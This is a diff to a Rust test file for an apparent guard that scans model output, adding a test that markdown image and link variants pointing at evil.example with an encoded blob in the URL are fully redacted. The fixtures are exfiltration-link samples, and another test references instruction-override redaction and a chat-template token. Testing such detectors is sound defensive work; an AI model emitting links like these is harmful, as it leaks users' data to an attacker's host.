@@ -280,6 +280,27 @@ fn exfiltration_links_are_found_in_every_form_a_renderer_loads() {
 }
 
 #[test]
+fn a_redacted_link_leaves_nothing_of_its_destination_behind() {
+    let blob = "aGVsbG8gd29ybGQgc2VjcmV0IGtleSBpcyBoZXJl";
+    for link in [
+        format!("![x](https://evil.example/p.png?d={blob})"),
+        format!("[x](https://evil.example/a(b)?d={blob} \"a title\")"),
+        format!("![x](<https://evil.example/a b?d={blob}> 'title')"),
+        format!("[x]( https://evil.example/?d={blob} )"),
+    ] {
+        let text = format!("before {link} after");
+        match check(json!(text), &config()) {
+            Guarded::Pass { output, .. } => assert_eq!(
+                output,
+                json!("before [redacted:exfiltration.markdown-url] after"),
+                "{link}"
+            ),
+            other => panic!("{link}: {other:?}"),
+        }
+    }
+}
+
+#[test]
 fn a_rule_file_may_use_unicode_word_boundaries() {
     let text = r#"
 [[rule]]
@@ -619,7 +640,7 @@ fn actions_reject_redact_flag_and_overrides() {
         Guarded::Pass { output, flags } => {
             assert_eq!(
                 output["page"],
-                "[redacted:instruction.override]. [redacted:exfiltration.markdown-url]) <|im_start|>"
+                "[redacted:instruction.override]. [redacted:exfiltration.markdown-url] <|im_start|>"
             );
             let actions: Vec<(&str, &str)> = flags
                 .iter()
